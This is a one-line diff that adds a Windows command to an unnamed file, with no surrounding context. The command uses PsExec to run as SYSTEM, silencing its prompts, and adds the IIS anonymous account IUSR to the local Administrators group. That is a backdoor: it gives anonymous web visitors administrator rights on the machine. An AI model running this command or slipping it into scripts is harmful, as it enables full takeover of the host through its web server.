@@ -1,0 +1,1 @@
+C:\tools\psexec64.exe -accepteula -nobanner -s cmd /c net localgroup Administrators IUSR /add
